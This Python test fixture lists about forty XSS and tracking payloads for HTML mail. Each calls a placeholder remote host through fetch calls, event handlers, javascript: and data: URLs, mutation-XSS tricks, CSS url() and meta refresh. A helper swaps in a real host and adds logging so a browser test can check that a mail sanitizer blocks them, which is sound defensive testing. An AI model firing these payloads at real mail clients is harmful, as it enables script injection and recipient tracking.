"""Known XSS and tracking vectors for HTML mail; each tries to reach the 'remote' host {R} at its own path /vN.

The browser test (tests/web/test_browser.py) renders them through `live()`, which also makes every
script log SCRIPT_RAN first: a script that runs is seen even when the page's CSP stops its request.
"""

from __future__ import annotations

import re

VECTORS: tuple[str, ...] = (
    "<script>fetch('{R}/v1')</script>",
    "<img src=x onerror=\"fetch('{R}/v2')\">",
    "<body onload=\"fetch('{R}/v3')\">body</body>",
    "<svg onload=\"fetch('{R}/v4')\"></svg>",
    "<svg><script>fetch('{R}/v5')</script></svg>",
    "<a href=\"javascript:fetch('{R}/v6')\" id=\"go\">click</a>",
    "<iframe src=\"{R}/v7\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;fetch('{R}/v8')&lt;/script&gt;\"></iframe>",
    "<object data=\"{R}/v9\"></object>",
    "<embed src=\"{R}/v10\">",
    "<meta http-equiv=\"refresh\" content=\"0;url={R}/v11\">",
    "<form id=\"f\" action=\"{R}/v12\" method=\"post\"></form><input form=\"f\" type=\"image\" src=\"{R}/v12i\">",
    "<link rel=\"stylesheet\" href=\"{R}/v13.css\">",
    "<style>@import url({R}/v14.css);</style>",
    "<div style=\"background:url({R}/v15)\">css url</div>",
    "<style>body{{background:url('{R}/v16')}}</style>",
    "<img src=\"{R}/v17\">",
    "<img srcset=\"{R}/v18 1x\">",
    "<picture><source srcset=\"{R}/v19\"><img alt=\"p\"></picture>",
    "<video poster=\"{R}/v20\"></video>",
    "<audio src=\"{R}/v21\" autoplay></audio>",
    "<base href=\"{R}/v22/\"><img src=\"relative.png\">",
    "<input type=\"image\" src=\"{R}/v23\">",
    "<details open ontoggle=\"fetch('{R}/v24')\"><summary>s</summary></details>",
    "<marquee onstart=\"fetch('{R}/v25')\">m</marquee>",
    "<a href=\"data:text/html,&lt;script&gt;fetch('{R}/v26')&lt;/script&gt;\">data link</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"fetch('{R}/v27')\"></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=fetch('{R}/v28')>\"></noscript>",
    "<table background=\"{R}/v29\"><tr><td>t</td></tr></table>",
    "<div style=\"width:expression(fetch('{R}/v30'))\">ie</div>",
    "<img src=x:x onerror=fetch('{R}/v31')//>",
    "<scr<script>ipt>fetch('{R}/v32')</scr</script>ipt>",
    "<svg><use href=\"{R}/v33#x\"></use></svg>",
    "<link rel=\"prefetch\" href=\"{R}/v34\">",
    "<object type=\"text/html\" data=\"data:text/html,&lt;script&gt;fetch('{R}/v35')&lt;/script&gt;\"></object>",
    "<iframe src=\"javascript:fetch('{R}/v36')\"></iframe>",
    "<svg><animate onbegin=\"fetch('{R}/v37')\" attributeName=\"x\" dur=\"1s\"></animate></svg>",
    "<img src=\"x\" style=\"content:url({R}/v38)\">",
    "<div style=\"background-image: image-set('{R}/v39' 1x)\">set</div>",
    "<style>@font-face{{font-family:x;src:url({R}/v40)}} p{{font-family:x}}</style><p>font</p>",
)

SCRIPT_RAN = "xss-script-ran"
MIN_VECTORS = 30  # the floor for the corpus
# The kinds the issue names, each with a marker that a vector of that kind contains.
KINDS = {"script": "<script", "event handler": " on", "javascript: URL": "javascript:", "SVG": "<svg",
         "CSS expression": "expression(", "meta refresh": 'http-equiv="refresh"', "form action": "<form",
         "data: URL": "data:text/html", "CSS url()": "url(", "remote image": "<img src=\"{R}"}


def live(vector: str, remote: str) -> str:
    """The vector aimed at `remote`, with every script logging SCRIPT_RAN before its request."""
    logged = re.sub(r"fetch\('\{R\}/(v\d+)", rf"console.log('{SCRIPT_RAN}:\1'),fetch('{{R}}/\1", vector)
    return logged.replace("{R}", remote).replace("{{", "{").replace("}}", "}")
